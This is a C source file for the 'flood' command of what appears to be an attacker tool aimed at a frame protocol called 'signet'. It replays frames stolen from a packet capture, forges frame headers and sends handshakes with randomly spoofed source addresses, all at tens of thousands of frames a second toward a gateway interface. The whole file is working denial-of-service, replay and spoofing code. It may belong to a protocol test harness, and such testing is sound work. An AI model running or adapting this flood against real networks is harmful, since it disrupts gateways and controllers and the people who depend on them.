// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* Send all of it, as often as the wire takes it. */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

#include "attacker.h"

#define INIT_LEN   400
#define STOLEN_MAX 256
#define NS	   1000000000ull

enum kind { MADE_UP, HANDSHAKE, STOLEN, KINDS };

struct flood {
	int fd;
	struct packet like; /* the newest frame in the recording */
	struct packet stolen[STOLEN_MAX]; /* those of its channel */
	size_t n_stolen;
	size_t turn;
	unsigned long sent[KINDS];
};

static volatile sig_atomic_t ended;

static void end(int number)
{
	ended = 1;
}

static void usage(void)
{
	printf("usage: flood [-n RATE] [-s SECONDS]\n"
	       "                            RATE frames a second: a third is "
	       "made up, a third is\n"
	       "                            made-up handshakes from "
	       "everywhere, a third was recorded\n"
	       "                            without -s: until Ctrl-C\n"
	       "       -r FILE              the recording\n"
	       "       -i INTERFACE         send there [to-gateway]\n");
}

/* What goes to another label, or is under an older key, is of no use any more. */
static bool same_channel(const struct packet *a, const struct packet *b)
{
	struct signet_frame x, y;

	memcpy(&x, a->payload, sizeof(x));
	memcpy(&y, b->payload, sizeof(y));
	return x.type == y.type && x.key_lane == y.key_lane &&
	       x.label == y.label;
}

static bool flood_load(struct flood *f, struct capture *c)
{
	struct packet p;

	if (!capture_last_packet(c, &f->like))
		return false;
	capture_rewind(c);
	while (f->n_stolen < STOLEN_MAX && capture_next_sealed(c, &p))
		if (same_channel(&p, &f->like))
			f->stolen[f->n_stolen++] = p;
	return f->n_stolen;
}

static void from_anywhere(struct packet *p)
{
	uint32_t r[2] = { 0x01020304, 4000 };

	if (getrandom(r, sizeof(r), 0) < 0)
		perror("flood: getrandom");
	p->src = r[0];
	p->sport = 1024 + r[1] % 60000;
}

static void flood_one(struct flood *f, enum kind kind)
{
	static uint8_t payload[FRAME_MAX];
	struct packet p = f->like;
	size_t len = p.len;

	if (kind == STOLEN) {
		p = f->stolen[f->turn++ % f->n_stolen];
		len = p.len;
		memcpy(payload, p.payload, len);
	} else if (kind == HANDSHAKE) {
		from_anywhere(&p);
		len = INIT_LEN;
		forge_init(payload, len);
	} else {
		memcpy(payload, p.payload, len);
		forge_header(payload, &p);
	}
	if (!wire_send_as(f->fd, &p, payload, len))
		f->sent[kind]++;
}

static uint64_t now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * NS + t.tv_nsec;
}

static void flood_run(struct flood *f, unsigned long rate, double seconds)
{
	const struct timespec pause = { .tv_nsec = 500000 };
	uint64_t start = now_ns(), until = start + seconds * NS, now;
	unsigned long tries = 0, due;

	while (!ended && (now = now_ns()) < until) {
		due = (now - start) / 1e9 * rate;
		/* what the machine was too busy for is not made up for at once */
		if (due - tries > rate / 100)
			tries = due - rate / 100;
		for (; tries < due; tries++)
			flood_one(f, tries % KINDS);
		nanosleep(&pause, NULL);
	}
	printf("flood: in %.1f s, up to %lu a second, I sent\n"
	       "  %8lu frames made up, under a label that is in use\n"
	       "  %8lu handshakes made up, from everywhere\n"
	       "  %8lu stolen frames, as the controller made them\n",
	       (now_ns() - start) / 1e9, rate, f->sent[MADE_UP],
	       f->sent[HANDSHAKE], f->sent[STOLEN]);
}

int cmd_flood(int argc, char **argv)
{
	static struct flood f;
	const char *in = capture_path(), *name = "to-gateway";
	unsigned long rate = 30000;
	double seconds = 3600;
	struct capture c;
	int opt, ret = 1;

	while ((opt = getopt(argc, argv, "r:i:n:s:h")) != -1) {
		switch (opt) {
		case 'r':
			in = optarg;
			break;
		case 'i':
			name = optarg;
			break;
		case 'n':
			rate = strtoul(optarg, NULL, 0);
			break;
		case 's':
			seconds = strtod(optarg, NULL);
			break;
		default:
			usage();
			return opt == 'h' ? 0 : 2;
		}
	}
	signal(SIGINT, end);
	signal(SIGTERM, end);
	if (!capture_load(&c, in) && flood_load(&f, &c)) {
		f.fd = wire_open(name, false);
		if (f.fd >= 0) {
			flood_run(&f, rate, seconds);
			close(f.fd);
			ret = 0;
		}
	}
	capture_free(&c);
	return ret;
}
